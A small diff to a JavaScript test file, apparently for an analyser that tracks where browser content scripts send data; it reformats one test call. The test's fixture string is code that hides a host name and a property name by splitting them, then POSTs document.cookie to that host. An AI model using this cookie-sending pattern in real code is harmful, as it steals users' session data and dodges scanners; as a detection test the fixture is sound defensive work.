@@ -58,8 +58,11 @@ it('a constructor that another calls is not taken for a function that is lent', 
 });
 
 it('the host of an address is known whose text is read by a name in pieces', () => {
-  const [flow] = flowsBetween.whole({
-    'content.js': `const to = new URL('/a', 'https://in.' + 'a.dev'); fetch(to['hr' + 'ef'], { method: 'POST', body: document.cookie });`,
-  });
+  const [flow] = flowsBetween.whole(
+    {
+      'content.js': `const to = new URL('/a', 'https://in.' + 'a.dev'); fetch(to['hr' + 'ef'], { method: 'POST', body: document.cookie });`,
+    },
+    {},
+  );
   assert.equal(flow?.host, 'in.a.dev');
 });
